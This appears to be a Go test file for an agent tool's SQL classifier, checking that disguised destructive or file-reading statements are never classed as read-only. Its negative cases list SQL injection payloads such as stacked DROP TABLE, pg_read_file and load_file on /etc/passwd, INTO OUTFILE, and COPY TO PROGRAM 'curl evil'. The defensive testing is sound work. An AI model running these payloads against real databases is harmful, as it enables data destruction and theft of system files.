package facts_test

import (
	"strings"
	"testing"

	"agentmesh/host/facts"
)

func strongest(stmts []facts.Statement) facts.Type {
	t := facts.Read
	for _, s := range stmts {
		t = facts.Stronger(t, s.Type)
	}
	return t
}

// TestSQLNeverReads holds texts that change, execute or are not understood, under disguises. None may count as read.
func TestSQLNeverReads(t *testing.T) {
	for dialect, texts := range map[string][]string{
		"postgres": {
			"SELECT 1; DROP TABLE users",
			"COMMIT; DROP SCHEMA public CASCADE;",
			"WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
			"WITH a AS (SELECT 1), b AS (INSERT INTO t SELECT * FROM a RETURNING 1) TABLE b",
			"SELECT * INTO copy FROM users",
			"select pg_read_file('/etc/passwd')",
			"select pg_catalog.pg_read_file('/etc/passwd')",
			`select "pg_read_file"('/etc/passwd')`,
			`select U&"pg\005fread_file"('/etc/passwd')`,
			"select evil.count(*) from t",
			"select lower(x) from my_function()",
			"COPY t TO PROGRAM 'curl evil'",
			"COPY t FROM '/etc/passwd'",
			"COPY (DELETE FROM t RETURNING *) TO STDOUT",
			"EXPLAIN ANALYZE DELETE FROM users",
			"EXPLAIN (ANALYZE, VERBOSE) UPDATE users SET a = 1",
			"DO $$ BEGIN DELETE FROM users; END $$",
			"SELECT nextval('s')",
			"SELECT * FROM t FOR UPDATE",
			"SELECT set_config('role', 'postgres', false)",
			"SET ROLE postgres",
			"PREPARE p AS DELETE FROM t; EXECUTE p",
			"DECLARE c CURSOR FOR SELECT pg_sleep(9)",
			"CREATE TABLE t AS SELECT 1",
			"select 1 /* ; */ ; delete /* */ from t --",
			"SELECT dblink_exec('dbname=x', 'DELETE FROM t')",
			"SELECT query_to_xml('delete from t', true, true, '')",
			"SELECT 1\x00; DROP TABLE t",
			"SELEC 1",
			"",
			"-- nothing",
			"CALL p()",
			"GRANT ALL ON t TO bob",
			"ALTER SYSTEM SET x = 1",
			"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
			"SELECT * FROM t WHERE id IN (SELECT lo_import('/etc/passwd'))",
			"LISTEN x",
			"VACUUM",
			"CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE c",
			"SELECT (SELECT pg_terminate_backend(1))",
			"VALUES (pg_reload_conf())",
			"SELECT 1 ORDER BY pg_sleep(1)",
			"SELECT 1 UNION SELECT * FROM t FOR UPDATE",
			"SELECT * FROM (SELECT 1 FOR SHARE) x",
			"SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000),
		},
		"sqlite": {
			"SELECT 1; DELETE FROM t",
			"SELECT load_extension('x')",
			`SELECT "load_extension"('x')`,
			"SELECT LOAD_EXTENSION ( 'x' )",
			"ATTACH DATABASE '/etc/x' AS x",
			"ATTACH '/tmp/x' AS y; SELECT 1",
			"WITH x AS (SELECT 1) DELETE FROM t",
			"WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
			"PRAGMA writable_schema = 1",
			"PRAGMA journal_mode = delete",
			"PRAGMA optimize",
			"VACUUM INTO '/tmp/x'",
			"REPLACE INTO t VALUES (1)",
			"SELECT writefile('x', y) FROM t",
			"SELECT * FROM fsdir('/')",
			"CREATE VIRTUAL TABLE x USING csv(filename='/etc/passwd')",
			"CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM u; END",
			"INSERT INTO t DEFAULT VALUES RETURNING *",
			"DELETE FROM t RETURNING *",
			"SELECT /* */ 1 ; /* */ UPDATE t SET a = 1",
			"BEGIN; SELECT 1",
			"SELECT my_own(1)",
			"SELECT 1 FROM t WHERE x = (SELECT readfile('/etc/passwd'))",
			"SELECT 1; garbage",
			"SELECT 1\x00; DROP TABLE t",
			"SELECT " + strings.Repeat("NOT ", 60000) + "1",
			"SELECT " + strings.Repeat("- ", 60000) + "1",
		},
		"mysql": {
			"SELECT 1; DROP TABLE t",
			"SELECT * FROM t INTO OUTFILE '/tmp/x'",
			"SELECT 'x' INTO DUMPFILE '/tmp/x'",
			"SELECT load_file('/etc/passwd')",
			"SELECT `load_file`('/etc/passwd')",
			"SELECT 1 /*!50000 INTO OUTFILE '/tmp/x' */",
			"/*! DROP TABLE t */",
			"SELECT 1 /*M! , load_file('x') */",
			"LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
			"SELECT * FROM t FOR UPDATE",
			"SELECT sleep(100)",
			"SELECT sys_exec('id')",
			"CALL p()",
			"EXPLAIN ANALYZE DELETE FROM t",
			"WITH x AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM x)",
			"SET GLOBAL general_log = 1",
			"GRANT ALL ON *.* TO x",
			"REPLACE INTO t VALUES (1)",
			"HANDLER t OPEN",
			"SELECT my_udf(1)",
			"SELECT mydb.count(1)",
			"TRUNCATE t",
			"SELECT * FROM (SELECT 1 INTO OUTFILE '/x') y",
		},
		"oracle": {"SELECT 1"},
	} {
		for _, text := range texts {
			t.Run(dialect+" "+text[:min(len(text), 60)], func(t *testing.T) {
				if got := strongest(facts.ReadSQL(dialect, text)); got == facts.Read {
					t.Errorf("ReadSQL(%s, %q) counts as read", dialect, text)
				}
			})
		}
	}
}

// TestSQLReads keeps ordinary queries readable.
func TestSQLReads(t *testing.T) {
	for _, c := range []struct{ dialect, text, tables string }{
		{"postgres", "SELECT id, lower(name) FROM public.users u JOIN orders o ON o.uid = u.id WHERE u.id = 1", "public.users,orders"},
		{"postgres", "WITH x AS (SELECT count(*) FROM t) SELECT * FROM x", "t"},
		{"postgres", "SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1 LIMIT 5", "t,u"},
		{"postgres", "EXPLAIN DELETE FROM t", "t"},
		{"postgres", "SHOW search_path", ""},
		{"postgres", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", "information_schema.tables"},
		{"postgres", "SELECT date_trunc('day', created_at), sum(total) FILTER (WHERE ok) FROM o GROUP BY 1", "o"},
		{"postgres", "SELECT extract(year from now()), coalesce(a, 1), position('a' in b), x::date, 'DROP TABLE t; --' FROM t", "t"},
		{"postgres", "VALUES (1), (2)", ""},
		{"sqlite", "SELECT count(*), group_concat(name) FROM main.users WHERE name LIKE 'a%'", "main.users"},
		{"sqlite", "PRAGMA table_info(users)", ""},
		{"sqlite", "SELECT * FROM pragma_table_info('t')", "pragma_table_info"},
		{"sqlite", "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c WHERE n < 9) SELECT n FROM c", ""},
		{"sqlite", "EXPLAIN QUERY PLAN DELETE FROM t", "t"},
		{"sqlite", "SELECT json_extract(a, '$.b'), strftime('%Y', d) FROM t", "t"},
		{"sqlite", "SELECT 'x; DROP TABLE t'", ""},
		{"mysql", "SELECT COUNT(*), DATE_FORMAT(d, '%Y') FROM db.t WHERE a = 1 GROUP BY 2", "db.t"},
		{"mysql", "SHOW TABLES", ""},
		{"mysql", "DESCRIBE t", "t"},
		{"mysql", "SELECT * FROM a UNION SELECT * FROM b", "a,b"},
		{"mysql", "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", "t"},
	} {
		t.Run(c.dialect+" "+c.text, func(t *testing.T) {
			stmts := facts.ReadSQL(c.dialect, c.text)
			var tables []string
			for _, s := range stmts {
				if s.Type != facts.Read {
					t.Errorf("type %s because %s", s.Type, s.Because)
				}
				tables = append(tables, s.Tables...)
			}
			if !sameNames(tables, c.tables) {
				t.Errorf("tables %q, want %q", tables, c.tables)
			}
		})
	}
}

func sameNames(got []string, want string) bool {
	set := map[string]bool{}
	for _, w := range strings.Split(want, ",") {
		if w != "" {
			set[w] = true
		}
	}
	for _, g := range got {
		if !set[g] {
			return false
		}
		delete(set, g)
	}
	return len(set) == 0
}

// TestSQLStatements fixes verbs, types and conditions.
func TestSQLStatements(t *testing.T) {
	for _, c := range []struct{ dialect, text, want string }{
		{"postgres", "DELETE FROM users WHERE id = 1", "delete/delete users where"},
		{"postgres", "DELETE FROM users", "delete/delete users"},
		{"postgres", "DELETE FROM users WHERE 1 = 1", "delete/delete users"},
		{"postgres", "UPDATE a.t SET x = 1 WHERE y > 2", "update/write a.t where"},
		{"postgres", "DROP TABLE a, b.c", "drop/delete a,b.c"},
		{"postgres", "ALTER TABLE t DROP COLUMN x", "alter/delete t"},
		{"postgres", "ALTER TABLE t ADD COLUMN x int", "alter/write t"},
		{"postgres", "WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d WHERE b = 2", "select/read where; delete/delete t where"},
		{"postgres", "TRUNCATE t", "truncate/delete t"},
		{"postgres", "INSERT INTO t SELECT * FROM u", "insert/write t,u"},
		{"postgres", "CREATE TABLE t (a int)", "create/write t"},
		{"postgres", "BEGIN; SELECT a FROM t; ROLLBACK", "begin/write; select/read t; rollback/write"},
		{"sqlite", "UPDATE t SET a = 1", "update/write t"},
		{"sqlite", "DELETE FROM t WHERE 1", "delete/delete t"},
		{"sqlite", "DELETE FROM t WHERE id IN (1, 2)", "delete/delete t where"},
		{"sqlite", "DROP TABLE IF EXISTS t", "drop/delete t"},
		{"sqlite", "CREATE INDEX i ON t (a)", "create/write"},
		{"mysql", "DELETE FROM t WHERE id = 1", "delete/delete t where"},
		{"mysql", "DELETE FROM t WHERE true", "delete/delete t"},
		{"mysql", "UPDATE t SET a = 1 WHERE b = 2", "update/write t where"},
		{"mysql", "INSERT INTO t VALUES (1)", "insert/write t"},
		{"mysql", "not sql", "unknown/unknown"},
	} {
		t.Run(c.dialect+" "+c.text, func(t *testing.T) {
			var parts []string
			for _, s := range facts.ReadSQL(c.dialect, c.text) {
				p := s.Verb + "/" + string(s.Type)
				if len(s.Tables) > 0 {
					p += " " + strings.Join(s.Tables, ",")
				}
				if s.Where {
					p += " where"
				}
				parts = append(parts, p)
			}
			if got := strings.Join(parts, "; "); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}
